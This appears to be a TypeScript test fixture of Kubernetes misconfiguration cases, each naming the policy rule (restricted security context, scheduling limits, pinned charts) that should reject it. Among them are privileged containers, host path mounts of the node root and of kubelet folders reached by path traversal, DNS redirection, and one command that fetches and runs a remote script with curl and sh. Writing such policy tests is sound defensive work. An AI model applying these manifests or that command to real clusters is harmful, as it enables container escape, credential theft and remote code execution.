import { container, deployment, object, podSpec, release, resource, workload } from "../subjects";
import { type Attack, inModel } from "./attack";

const RESTRICTED = "restricted-security-context";
const pod = (changes: Record<string, unknown>) => [deployment(podSpec(changes))];
const privileged = { spec: podSpec({ containers: [container({ securityContext: { privileged: true } })] }) };
const volume = (spec: object) => [object("core/v1", "PersistentVolume", { spec: { capacity: {}, ...spec } })];
const CACHED = { accessModes: ["ReadOnlyMany"], claimRef: { name: "node-cache" } };
const image = (name: string) => pod({ containers: [container({ image: name })] });

export const PODS: readonly Attack[] = [
  [
    "a privileged init container of a DaemonSet",
    RESTRICTED,
    [
      workload("apps/v1", "DaemonSet", {
        template: { spec: podSpec({ initContainers: [container({ securityContext: { privileged: true } })] }) },
      }),
    ],
  ],
  ["a privileged StatefulSet", RESTRICTED, [workload("apps/v1", "StatefulSet", { template: privileged })]],
  [
    "a privileged pod in a text",
    RESTRICTED,
    [
      inModel("argoproj.io/v1alpha1", "Workflow", {
        spec: { podSpecPatch: '{"containers":[{"name":"main","securityContext":{"privileged":true}}]}' },
      }),
    ],
  ],
  ["a privileged Job", RESTRICTED, [workload("batch/v1", "Job", { template: privileged })]],
  [
    "a privileged CronJob",
    RESTRICTED,
    [workload("batch/v1", "CronJob", { jobTemplate: { spec: { template: privileged } } })],
  ],
  [
    "a privileged group of pods",
    RESTRICTED,
    [
      workload("leaderworkerset.x-k8s.io/v1", "LeaderWorkerSet", {
        leaderWorkerTemplate: { workerTemplate: privileged },
      }),
    ],
  ],
  [
    "a privileged Ray cluster",
    RESTRICTED,
    [workload("ray.io/v1", "RayService", { rayClusterConfig: { headGroupSpec: { template: privileged } } })],
  ],
  [
    "a privileged sidecar of the gateway",
    RESTRICTED,
    [
      inModel("gateway.envoyproxy.io/v1alpha1", "GatewayConfig", {
        spec: { extProc: { kubernetes: { securityContext: { privileged: true } } } },
      }),
    ],
  ],
  [
    "an ephemeral container as root",
    RESTRICTED,
    pod({ ephemeralContainers: [container({ securityContext: { runAsUser: 0 } })] }),
  ],
  ["a process of a Windows host", RESTRICTED, pod({ securityContext: { windowsOptions: { hostProcess: true } } })],
  [
    "no AppArmor, by annotation",
    RESTRICTED,
    [deployment(podSpec(), { annotations: { "container.apparmor.security.beta.kubernetes.io/engine": "unconfined" } })],
  ],
  [
    "a token for AWS",
    RESTRICTED,
    pod({
      serviceAccountName: "own",
      volumes: [
        {
          name: "token",
          projected: { sources: [{ serviceAccountToken: { path: "token", audience: "sts.amazonaws.com" } }] },
        },
      ],
    }),
  ],
  ["a volume that is the node's root", RESTRICTED, volume({ local: { path: "/" }, accessModes: ["ReadWriteOnce"] })],
  ["a volume by a path of the host", RESTRICTED, volume({ hostPath: { path: "/etc/kubernetes" } })],
  ...[
    { path: "/var/lib/kubelet/inference-stacks-weights", ...CACHED },
    { path: "/var/lib/kubelet/inference-stacks-weights/../pods", ...CACHED },
    { path: "/var/lib/kubelet/inference-stacks-weights/chat/../../pods", ...CACHED },
    { path: "/var/lib/kubelet/inference-stacks-weights/chat", ...CACHED, accessModes: ["ReadWriteMany"] },
    { path: "/var/lib/kubelet/inference-stacks-weights/chat", ...CACHED, claimRef: {} },
  ].map(
    ({ path, ...spec }): Attack => [
      `a volume by a path of the host beside the cache of weights: ${path} ${JSON.stringify(spec)}`,
      RESTRICTED,
      volume({ hostPath: { path }, ...spec }),
    ],
  ),
  [
    "a folder of the system, to be read",
    RESTRICTED,
    volume({ local: { path: "/var/lib/kubelet" }, accessModes: ["ReadOnlyMany"], claimRef: { name: "a" } }),
  ],
  [
    "an inline driver that mounts the host",
    RESTRICTED,
    pod({ volumes: [{ name: "a", csi: { driver: "hostpath.csi.k8s.io" } }] }),
  ],
  [
    "an authority of its own",
    RESTRICTED,
    pod({
      volumes: [
        {
          name: "a",
          csi: { driver: "csi.cert-manager.io", volumeAttributes: { "csi.cert-manager.io/is-ca": "true" } },
        },
      ],
    }),
  ],
  [
    "a name that leads elsewhere",
    RESTRICTED,
    pod({ hostAliases: [{ ip: "203.0.113.9", hostnames: ["minio.model-store.svc"] }] }),
  ],
  ["a resolver of its own", RESTRICTED, pod({ dnsPolicy: "None", dnsConfig: { nameservers: ["203.0.113.53"] } })],
  ["an account whose pods all get its token", RESTRICTED, [inModel("core/v1", "ServiceAccount", {})]],
  [
    "a namespace of privileged pods",
    RESTRICTED,
    [
      object(
        "core/v1",
        "Namespace",
        {},
        { name: "model-a", labels: { "pod-security.kubernetes.io/enforce": "privileged" } },
      ),
    ],
  ],
  [
    "every taint, and the control plane",
    "scheduling-limits",
    pod({ tolerations: [{ operator: "Exists" }], nodeSelector: { "node-role.kubernetes.io/control-plane": "" } }),
  ],
  [
    "monitoring below downloads",
    "chart-priorities",
    [release({ chart: "kube-prometheus-stack", values: { prometheus: { prometheusSpec: { replicas: 2 } } } })],
  ],
  ["a priority of the system", "scheduling-limits", pod({ priorityClassName: "system-cluster-critical" })],
  ["a node by name", "scheduling-limits", pod({ nodeName: "gpu-1" })],
  [
    "a class that drives out the platform",
    "scheduling-limits",
    [object("scheduling.k8s.io/v1", "PriorityClass", { value: 1e9 })],
  ],
  [
    "proxies that tolerate every taint",
    "scheduling-limits",
    [
      inModel("gateway.envoyproxy.io/v1alpha1", "EnvoyProxy", {
        spec: { provider: { kubernetes: { envoyDeployment: { pod: { tolerations: [{ operator: "Exists" }] } } } } },
      }),
    ],
  ],
  ["a digest that anybody can meet", "no-latest-image", image(`a/b:1.0@md5:${"a".repeat(32)}`)],
  ...["lts", "canary", "3", "v1", "latest-cuda"].map(
    (tag) => [`the tag ${tag}`, "no-latest-image", image(`a/b:${tag}`)] as const,
  ),
  ["a program that changes a chart", "pinned-charts", [release({ postrender: "/usr/local/bin/change" })]],
  ["a chart without TLS", "pinned-charts", [release({ repositoryOpts: { repo: "http://charts.example" } })]],
  [
    "an overlay from Git",
    "pinned-charts",
    [resource("kubernetes:kustomize/v2:Directory", { directory: "https://github.com/a/b//c" })],
  ],
  [
    "manifests from an address",
    "pinned-charts",
    [resource("kubernetes:yaml/v2:ConfigFile", { file: "https://a.example/b.yaml" })],
  ],
  [
    "a program that a command fetches and starts",
    "pinned-charts",
    [resource("command:local:Command", { create: "curl -sfo i https://a.example/i && sh i" })],
  ],
  [
    "two autoscalers of one server",
    "single-autoscaler-per-target",
    [
      workload("keda.sh/v1alpha1", "ScaledObject", { scaleTargetRef: { name: "chat" } }),
      workload("keda.sh/v1alpha1", "ScaledObject", { scaleTargetRef: { name: "chat" } }),
    ],
  ],
];
